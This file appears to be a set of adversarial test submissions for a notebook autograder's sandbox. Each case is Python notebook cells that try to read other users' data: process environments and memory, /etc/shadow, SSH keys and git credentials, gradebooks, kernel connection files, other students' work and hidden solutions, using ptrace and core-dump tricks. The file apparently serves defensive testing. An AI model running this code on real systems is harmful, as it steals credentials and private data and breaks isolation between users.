"""Reading data of other users."""
# must: no point; graded

# === read_crash_dumps
# tries: to have a core dump of itself or of a parent written, and to read it
# must: no point; graded or needs a person
# %% cell after imports
import resource

tried(resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
if os.fork() == 0:
    os.kill(os.getpid(), signal.SIGQUIT)
for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/yama/ptrace_scope"):
    tried(pathlib.Path(name).write_text, "|/usr/bin/touch /tmp/escaped-core")

# === read_environments
# tries: to read the environment, command lines and open files of every process
# %% cell after imports
loot = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    loot += [path, content(path)]
for path in glob.glob("/proc/[0-9]*/fd/*"):
    name = tried(os.readlink, path) or ""
    if name.startswith("/") and not name.startswith("/dev"):
        loot += [name, content(path)]
reveal(loot)
# %% add(numbers)
reveal(loot)

# === read_gradebook
# tries: to read tests, names and points from the gradebook
# %% cell after imports
loot = []
for place in [*("../" * depth for depth in range(1, 8)), *glob.glob("/proc/*/cwd/"), "/home/*/"]:
    for path in glob.glob(f"{place}**/gradebook.db", recursive="home" in place):
        book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        for (table,) in book.execute("select name from sqlite_master where type = 'table'"):
            loot += book.execute(f"select * from {table}")
reveal(loot)
# %% add(numbers)
reveal(loot)

# === read_home
# tries: to read keys, tokens, settings and notes of the person who grades, and /etc/shadow
# %% cell after imports
import pwd

homes = {os.path.expanduser("~"), "/root", "/home/grader", os.environ.get("HOME", "/")}
homes |= {entry.pw_dir for entry in pwd.getpwall()} | set(glob.glob("/home/*"))
paths = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/machine-id"]
for home in homes - {"/", "/usr", "/bin", "/dev", "/usr/sbin"}:
    for name in ("notes.txt", ".ssh/*", ".jupyter/*", ".config/*", ".netrc", ".git-credentials"):
        paths += glob.glob(f"{home}/{name}")
loot = [os.environ, *map(content, paths)]
reveal(loot)
# %% add(numbers)
reveal(loot)

# === read_kernels
# tries: to connect to Jupyter kernels of others, by the connection files that lie about
# %% cell after imports
patterns = [os.path.expanduser("~/.local/share/jupyter/runtime/*.json")]
patterns += ["/tmp/**/kernel-*.json", "/run/user/*/**/*.json"]
paths = [path for pattern in patterns for path in glob.glob(pattern, recursive=True)]
reveal(map(content, paths))


# === read_memory
# tries: to search the memory of every process for canaries and hidden tests
# %% cell after imports
def dump(folder):
    with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and end - start < 200_000_000:
                try:
                    memory.seek(start)
                    data = memory.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                yield from re.findall(rb"canary-[0-9a-f]{24}", data)
                yield from re.findall(rb"BEGIN HIDDEN TESTS[ -~\n]{0,800}", data)


# %% add(numbers)
loot = []
for folder in glob.glob("/proc/[0-9]*"):
    tried(lambda: loot.extend(dump(folder)))
reveal(loot)

# === read_neighbour
# tries: to hand in what another student has handed in
# %% cell after imports
for depth, folder in itertools.product(range(1, 8), ("submitted", "autograded")):
    for path in glob.glob("../" * depth + f"{folder}/student0[13]/09_sums/*.ipynb"):
        stolen = read_notebook(path)
# %% cell before sum-all-form
exec(stolen["sum-all"])
# %% cell before sum-squares-form
exec(stolen["sum-squares"])
# %% cell before sum-largest-form
exec(stolen["sum-largest"])

# === read_ptrace
# tries: to attach to its parents with ptrace, and to read their memory by system calls
# %% cell after imports
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


# %% add(numbers)
loot = []
for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}:
    ctypes.set_errno(0)
    seized = libc.ptrace(0x4206, pid, None, None)
    loot.append(f"{pid}: seize {seized} {os.strerror(ctypes.get_errno())}")
    buffer = ctypes.create_string_buffer(4096)
    here = Part(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    there = Part(0x400000, 4096)
    size = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    loot.append(f"{pid}: read {size} {buffer.raw if size > 0 else ''}")
    if seized == 0:
        libc.ptrace(17, pid, None, None)
reveal(loot)

# === read_solution
# tries: to find the solutions above its folder, and to run their answers
# %% cell after imports
places = ["/", *glob.glob("/proc/*/cwd/"), *glob.glob("/proc/*/root/home/*/")]
places += ["../" * depth for depth in range(1, 8)]
for place, course in itertools.product(places, ("", "course/")):
    for path in glob.glob(f"{place}{course}solutions/09_sums/*.ipynb"):
        stolen = read_notebook(path)
# %% cell before sum-all-form
exec(stolen["sum-all"])
# %% cell before sum-squares-form
exec(stolen["sum-squares"])
# %% cell before sum-largest-form
exec(stolen["sum-largest"])
